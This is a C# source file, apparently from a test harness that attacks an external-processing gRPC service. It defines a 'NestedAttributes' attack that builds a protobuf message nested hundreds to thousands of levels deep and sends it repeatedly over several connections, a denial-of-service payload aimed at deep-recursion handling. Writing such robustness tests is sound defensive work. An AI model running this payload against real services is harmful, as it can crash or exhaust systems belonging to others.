using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using Google.Protobuf;

namespace ExtProc.Attacks.Messages;

/// <summary>Attributes that are lists in lists in lists.</summary>
internal sealed class NestedAttributes : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        byte[] value = Requests.Field(3, "x"u8);
        for (int depth = 0; depth < target.Count(500, 3000); depth++)
        {
            value = Requests.Field(6, Requests.Field(1, value));
        }

        byte[] attributes = Requests.Field(9, [.. Requests.Field(1, "a"u8), .. Requests.Field(2, Requests.Field(1, [.. Requests.Field(1, "b"u8), .. Requests.Field(2, value)]))]);
        byte[] message = Requests.Framed((byte[])[.. Requests.RequestHeaders(endOfStream: true).ToByteArray(), .. attributes]);
        for (int i = 0; i < target.Count(20, 500) && !peer.Gone; i++)
        {
            await peer.SendAsync(await peer.OpenAsync(), message);
        }
    });
}
